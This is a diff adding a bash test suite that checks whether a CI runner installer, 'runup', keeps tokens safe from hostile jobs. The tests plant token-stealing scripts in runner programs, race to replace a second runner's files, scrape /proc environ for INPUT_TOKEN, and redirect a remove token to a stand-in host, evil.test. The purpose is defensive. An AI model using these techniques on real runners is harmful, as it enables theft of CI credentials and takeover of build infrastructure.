@@ -1,0 +1,121 @@
+# C3 and H1: a job that reads a token.
+
+# A program that takes away all that it is given, and fails.
+thief='#!/bin/bash
+(umask 0; { env; printf "%s\n" "$@"; } >>/srv/loot/given)
+exit 1'
+
+scenario_token_for_a_planted_config_sh() {
+    with_service
+    hostile "for program in config.sh env.sh bin/Runner.Listener bin/standin/http.sh; do plant \$tree/\$program <<'THIEF'
+$thief
+THIEF
+done"
+    attempt runup install --work elsewhere
+    nothing_was_taken
+    attempt runup remove
+    nothing_was_taken
+    must no_runner
+}
+
+# The same where the runner's user owns the tree, because runup does not update it: its programs are planted, and get no
+# token all the same.
+scenario_token_for_a_program_of_an_open_tree() {
+    local open=()
+    ! knows --self-update || open=(--self-update)
+    with_service "${open[@]}"
+    hostile "for program in config.sh env.sh bin/Runner.Listener bin/standin/http.sh bin/standin/remove.sh; do plant \$tree/\$program <<'THIEF'
+$thief
+THIEF
+done"
+    job_says "planted config.sh"
+    attempt runup install --work elsewhere "${open[@]}"
+    absent $loot/given
+    nothing_was_taken
+    attempt runup remove
+    succeeded
+    absent $loot/given
+    nothing_was_taken
+    must no_runner
+}
+
+# The tree of a second runner is the first one's job's to write at no instant of its making.
+scenario_token_by_racing_a_second_tree() {
+    with_service
+    hostile "cat >\$loot/thief <<'THIEF'
+$thief
+THIEF
+chmod 755 \$loot/thief
+cat >\$loot/racer.sh <<'RACER'
+shopt -s nullglob
+while :; do
+    for dir in /opt/second /opt/.[!.]* /var/lib/runup/*; do
+        [[ -e \$dir/config.sh ]] || continue
+        for program in config.sh env.sh; do
+            cmp -s /srv/loot/thief \$dir/\$program && continue
+            cp /srv/loot/thief \$dir/.new 2>/dev/null && mv -f \$dir/.new \$dir/\$program && echo \$dir/\$program >>/srv/loot/won
+        done
+    done
+done
+RACER
+hide bash \$loot/racer.sh
+hide bash \$loot/racer.sh"
+    attempt runup install --dir /opt/second --name second
+    nothing_was_taken
+    absent $loot/won
+    succeeded
+    within 30 online 2
+    [[ $(stat --format=%u "$root/opt/second/_work") != $(stat --format=%u "$root$tree/_work") ]] || fail "both runners have one user"
+}
+
+# A process of an earlier job looks into every process of its user.
+scenario_token_in_a_process_of_the_same_user() {
+    with_service
+    hostile "cat >\$loot/snooper.sh <<'SNOOPER'
+while :; do
+    cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a INPUT_TOKEN >>/srv/loot/seen
+done
+SNOOPER
+escape 'exec bash /srv/loot/snooper.sh'
+sleep 2; ps -o args -u \$(id -u)"
+    job_says snooper.sh
+    attempt runup install --work elsewhere
+    nothing_was_taken
+    succeeded
+    attempt runup remove
+    nothing_was_taken
+    succeeded
+}
+
+# H1: the remove token goes to the server of the registration, whatever .runner says.
+scenario_remove_token_for_a_server_of_the_job_s() {
+    with_service
+    hostile "$(recorder)
+alter \$tree/.runner \"s|\\\"gitHubUrl\\\": \\\"[^\\\"]*\\\"|\\\"gitHubUrl\\\": \\\"http://127.0.0.1:\$port/acme\\\"|\""
+    attempt runup remove
+    absent $loot/received
+    nothing_was_taken
+    must no_runner
+}
+
+# The same where runup did not set the runner up: the URL that the operator gives has to be that of .runner.
+scenario_remove_token_of_a_runner_set_up_by_hand() {
+    server
+    machine
+    credentials
+    switch_on
+    by_hand
+    # The same server by another name: what is sent there can be seen.
+    echo "127.0.0.1 evil.test" >>"$root/etc/hosts"
+    as_job sed --in-place 's|"gitHubUrl": "http://127.0.0.1:|"gitHubUrl": "http://evil.test:|' /opt/by-hand/.runner
+    token_for_root remove
+    : >"$root/root/empty.toml"
+    attempt runup remove --config /root/empty.toml --dir /opt/by-hand --remove-token-file /root/remove-token
+    nothing_went_to_evil
+    attempt runup remove --config /root/empty.toml --dir /opt/by-hand --remove-token-file /root/remove-token --url "$org_url"
+    nothing_went_to_evil
+}
+nothing_went_to_evil() {
+    control GET requests | jq --exit-status 'all(.[]; .host | startswith("evil.test") | not)' >/dev/null ||
+        fail "a request went where .runner says"
+}
